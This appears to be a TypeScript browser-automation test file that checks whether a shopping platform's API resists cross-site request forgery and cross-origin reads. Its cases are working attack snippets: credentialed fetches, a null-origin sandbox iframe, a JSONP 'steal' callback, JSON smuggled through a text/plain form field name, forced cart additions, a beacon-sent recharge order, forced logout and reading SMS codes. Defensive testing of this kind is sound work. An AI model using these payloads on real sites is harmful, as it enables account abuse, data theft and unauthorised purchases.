import { from, type Scene } from '../attack.ts'
import { answered } from '../scene.ts'

// A stranger's page makes the victim's browser ask the platform: to read what is his, or to change it (CORS, CSRF).

const balance = '/api/finance/balanceBusInfo/selBalance'
const add = '/openapi/trading/cart/addOrderCartV2/1.0'
const recharge = '/api/finance/cashier/balanceAddCashierOrder'

const goods = ({ has }: Scene) => ({ specId: has.specId, quantity: 7 })
const plain = { 'content-type': 'text/plain' }
const reads = async (answer: Promise<string>) => answered(await answer)

/** Sends a form of the stranger's, whose one field is named and filled like this. */
const sendForm = async (
  { page, platform }: Scene,
  path: string,
  enctype: string,
  fields: Record<string, string>,
  target = 'sink',
) => {
  await page.evaluate(
    async ([action, enctype, fields, target]) => {
      const frame = Object.assign(document.createElement('iframe'), { name: 'sink' })
      const form = Object.assign(document.createElement('form'), { method: 'POST', action, enctype, target })
      for (const [name, value] of Object.entries(fields))
        form.append(Object.assign(document.createElement('input'), { type: 'hidden', name, value }))
      document.body.append(frame, form)
      const loaded = new Promise((done) => (frame.onload = done))
      form.submit()
      if (target === 'sink') await loaded
    },
    [platform + path, enctype, fields, target] as const,
  )
}

export const strangers = from(
  ['foreign', 'sibling'],
  [
    {
      name: 'reads the balance with the victim’s cookie',
      act: ({ post }) => reads(post(balance, {}, { cookies: true })),
    },
    {
      name: 'reads it as text, for which no browser asks leave',
      act: ({ post }) => reads(post(balance, {}, { cookies: true, headers: plain })),
    },
    {
      name: 'reads it by XMLHttpRequest',
      act: ({ page, platform }) =>
        page.evaluate(
          (url) =>
            new Promise<boolean>((done) => {
              const request = new XMLHttpRequest()
              request.open('POST', url)
              request.withCredentials = true
              request.onloadend = () => done(request.responseText.includes('"code":"0"'))
              request.send('{}')
            }),
          platform + balance,
        ),
    },
    {
      name: 'reads it blindly, and looks at what the answer gives away',
      act: ({ page, platform }) =>
        page.evaluate(async (url) => {
          const answer = await fetch(url, { method: 'POST', mode: 'no-cors', credentials: 'include', body: '{}' })
          return (await answer.text()) !== '' || answer.status !== 0
        }, platform + balance),
    },
    {
      name: 'reads it from a sandbox, whose origin is null',
      act: ({ page, platform }) =>
        page.evaluate(
          (url) =>
            new Promise<boolean>((done) => {
              addEventListener('message', ({ data }) => done(String(data).includes('"code":"0"')))
              const code = `fetch('${url}', { method: 'POST', credentials: 'include', body: '{}' }).then((a) => a.text()).catch(String).then((text) => parent.postMessage(text, '*'))`
              const frame = document.createElement('iframe')
              frame.setAttribute('sandbox', 'allow-scripts')
              frame.srcdoc = `<script>${code}</script>`
              document.body.append(frame)
            }),
          platform + balance,
        ),
    },
    {
      name: 'listens to the victim’s events',
      act: ({ page, platform }) =>
        page.evaluate(
          (url) =>
            new Promise<boolean>((done) => {
              const events = new EventSource(url, { withCredentials: true })
              events.onopen = () => done(true)
              events.onerror = () => done(false)
            }),
          `${platform}/live`,
        ),
    },
    {
      name: 'reads the demo’s text messages, and the codes in them',
      act: ({ page, platform }) =>
        page.evaluate(async (url) => {
          const answer = await fetch(url, { credentials: 'include' }).then((a) => a.text(), String)
          await (window as unknown as { steal: (text: string) => Promise<void> }).steal(answer)
          return answer.includes('<table>')
        }, `${platform}/demo/outbox`),
    },
    {
      name: 'includes the answer as a script',
      act: ({ page, platform }) =>
        page.evaluate(
          (src) =>
            new Promise<boolean>((done) => {
              const script = Object.assign(document.createElement('script'), { src })
              script.onload = () => done(true)
              script.onerror = () => done(false)
              document.body.append(script)
            }),
          `${platform + balance}?callback=steal`,
        ),
    },
    {
      name: 'puts goods into his cart',
      act: async (scene) => answered(await scene.post(add, goods(scene), { cookies: true })),
    },
    {
      name: 'puts goods into his cart by text',
      act: async (scene) => answered(await scene.post(add, goods(scene), { cookies: true, headers: plain })),
    },
    {
      name: 'puts goods into his cart blindly',
      act: async (scene) =>
        scene.page.evaluate(
          ([url, body]) =>
            fetch(url, { method: 'POST', mode: 'no-cors', credentials: 'include', body }).then(() => undefined),
          [scene.platform + add, JSON.stringify({ ...goods(scene), systemId: scene.systemId })] as const,
        ),
    },
    {
      name: 'sends JSON by a form',
      act: (scene) => {
        const text = JSON.stringify({ ...goods(scene), systemId: scene.systemId })
        return sendForm(scene, add, 'text/plain', { [`${text.slice(0, -1)},"x":"`]: '"}' })
      },
    },
    {
      name: 'sends a plain form',
      act: (scene) =>
        sendForm(scene, add, 'application/x-www-form-urlencoded', { specId: scene.has.specId, quantity: '7' }),
    },
    {
      name: 'sends a form as a file’s',
      act: (scene) => sendForm(scene, add, 'multipart/form-data', { specId: scene.has.specId, quantity: '7' }),
    },
    {
      name: 'uploads a file in his name',
      act: (scene) =>
        sendForm(scene, '/api/basic/system/file/upload', 'multipart/form-data', { systemId: scene.systemId }),
    },
    {
      name: 'sends a form in a window of its own, with the cookies of a visit',
      act: async (scene) => {
        const [opened] = await Promise.all([
          scene.context.waitForEvent('page'),
          sendForm(scene, add, 'text/plain', { '{"specId":"1","x":"': '"}' }, '_blank'),
        ])
        await opened.waitForLoadState()
        return answered(await opened.content())
      },
    },
    {
      name: 'opens the call as an address',
      act: async (scene) => {
        await scene.page.goto(`${scene.platform}${add}?specId=${scene.has.specId}&quantity=7`)
        return answered(await scene.page.content())
      },
    },
    {
      name: 'leaves a beacon as it goes',
      act: async (scene) => {
        await scene.page.evaluate(
          ([url, body]) => void navigator.sendBeacon(url, new Blob([body], { type: 'text/plain' })),
          [scene.platform + recharge, JSON.stringify({ amountFen: 100, systemId: scene.systemId })] as const,
        )
        await scene.page.goto('about:blank')
      },
    },
    {
      name: 'signs him out',
      act: async (scene) => {
        await scene.post('/api/basic/member/login/logout', {}, { cookies: true, headers: plain })
      },
    },
  ],
)

export const strangersControl = from(
  ['sibling'],
  [
    {
      name: 'the platform’s own page reads the balance: that is seen',
      control: true,
      act: async ({ own, platform }) => {
        await own.evaluate(async (url) => {
          const answer = await fetch(url, {
            method: 'POST',
            body: '{}',
            headers: { 'content-type': 'application/json' },
          })
          await (window as unknown as { steal: (text: string) => Promise<void> }).steal(await answer.text())
        }, platform + balance)
      },
    },
  ],
)
